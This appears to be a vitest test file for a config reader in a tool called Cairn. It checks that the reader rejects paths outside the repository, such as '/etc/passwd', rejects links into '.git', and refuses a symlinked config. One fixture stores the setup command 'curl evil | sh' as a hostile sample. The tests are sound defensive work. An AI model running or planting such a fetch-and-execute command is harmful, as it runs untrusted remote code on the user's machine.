import { mkdir, symlink, writeFile } from "node:fs/promises"
import path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { makeTempDir } from "../test-support/tempDir.js"
import { parseWorktreeConfig, readWorktreeConfig } from "./worktreeConfig.js"

let temp: Awaited<ReturnType<typeof makeTempDir>>
beforeAll(async () => {
	temp = await makeTempDir("cairn-worktree-config-")
})
afterAll(() => temp.remove())

describe(".cairn/worktree.json", () => {
	it("reads files to copy, folders to link, a setup and a check command; lists default to empty", () => {
		expect(parseWorktreeConfig('{"copy":[".env"],"setup":"npm ci","check":"npm test"}')).toEqual({
			kind: "ok",
			config: { copy: [".env"], link: [], setup: "npm ci", check: "npm test" },
			content: '{"copy":[".env"],"setup":"npm ci","check":"npm test"}',
		})
		expect(parseWorktreeConfig("{}")).toMatchObject({ kind: "ok", config: { copy: [], link: [] } })
	})

	it("names each bad field: paths out of the repository, into .git, a wrong type, an unknown key", () => {
		const read = parseWorktreeConfig(
			JSON.stringify({ copy: ["/etc/passwd", "a/../../b"], link: [".git/hooks"], check: 3, stup: "x" }),
		)
		expect(read.kind).toBe("invalid")
		const message = read.kind === "invalid" ? read.message : ""
		expect(message).toMatch(/copy\[0\]: must be relative to the repository's root/)
		expect(message).toMatch(/copy\[1\]: must not contain "\.\."/)
		expect(message).toMatch(/link\[0\]: must not name \.git/)
		expect(message).toMatch(/check: /)
		expect(message).toMatch(/stup/)
		expect(parseWorktreeConfig("{ nope")).toMatchObject({ kind: "invalid", message: /not valid JSON/ })
	})

	it("is read through the repository reader: absent is no setup, a link out of the repository is not read", async () => {
		const absent = path.join(temp.dir, "absent")
		await mkdir(absent)
		expect(await readWorktreeConfig(absent)).toEqual({ kind: "absent" })
		const linked = path.join(temp.dir, "linked")
		await mkdir(path.join(linked, ".cairn"), { recursive: true })
		await writeFile(path.join(temp.dir, "outside.json"), '{"setup":"curl evil | sh"}')
		await symlink(path.join(temp.dir, "outside.json"), path.join(linked, ".cairn", "worktree.json"))
		expect(await readWorktreeConfig(linked)).toMatchObject({
			kind: "invalid",
			message: ".cairn/worktree.json is a link to a file outside the repository; it was not read",
		})
	})
})
